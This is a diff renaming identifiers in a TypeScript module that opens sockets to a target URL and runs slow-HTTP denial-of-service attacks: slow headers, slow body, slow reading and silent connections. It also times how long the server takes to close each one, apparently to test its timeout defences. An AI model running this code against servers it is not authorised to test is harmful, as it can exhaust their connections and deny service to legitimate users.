@@ -8,15 +8,15 @@ type Target = { url: string; big: string };
 const POST =
   'POST /api/v1/auth/login HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n\r\n';
 
-const KINDS: Record<string, (socket: Socket, target: Target) => void> = {
+const ATTACK_BY_KIND: Record<string, (socket: Socket, target: Target) => void> = {
   'slow headers': (socket) => {
     socket.write('GET / HTTP/1.1\r\nHost: x\r\n');
-    drip(socket, 'X-Slow: 1\r\n');
+    sendSlowly(socket, 'X-Slow: 1\r\n');
     socket.resume();
   },
   'slow body': (socket) => {
     socket.write(POST);
-    drip(socket, ' ');
+    sendSlowly(socket, ' ');
     socket.resume();
   },
   'slow reading': (socket, { big }) => {
@@ -30,28 +30,28 @@ const KINDS: Record<string, (socket: Socket, target: Target) => void> = {
   silent: (socket) => void socket.resume(),
 };
 
-export const ATTACKS = Object.keys(KINDS);
+export const ATTACKS = Object.keys(ATTACK_BY_KIND);
 
 export function attack(kind: string, target: Target): Attacker {
   const { hostname, port } = new URL(target.url);
   const socket = connect({ port: Number(port), host: hostname, allowHalfOpen: true });
   const attacker: Attacker = { kind, socket, closedMs: null };
   let startedAt = performance.now();
-  const over = () => {
+  const onClosed = () => {
     attacker.closedMs ??= performance.now() - startedAt;
   };
-  socket.on('error', over);
-  socket.on('close', over);
-  socket.on('end', over);
+  socket.on('error', onClosed);
+  socket.on('close', onClosed);
+  socket.on('end', onClosed);
   socket.on('connect', () => {
     startedAt = performance.now();
-    KINDS[kind]?.(socket, target);
+    ATTACK_BY_KIND[kind]?.(socket, target);
   });
   return attacker;
 }
 
-function drip(socket: Socket, drop: string): void {
-  const timer = setInterval(() => socket.write(drop), 1_000);
+function sendSlowly(socket: Socket, chunk: string): void {
+  const timer = setInterval(() => socket.write(chunk), 1_000);
   socket.on('close', () => clearInterval(timer));
   socket.on('end', () => clearInterval(timer));
   socket.on('error', () => clearInterval(timer));
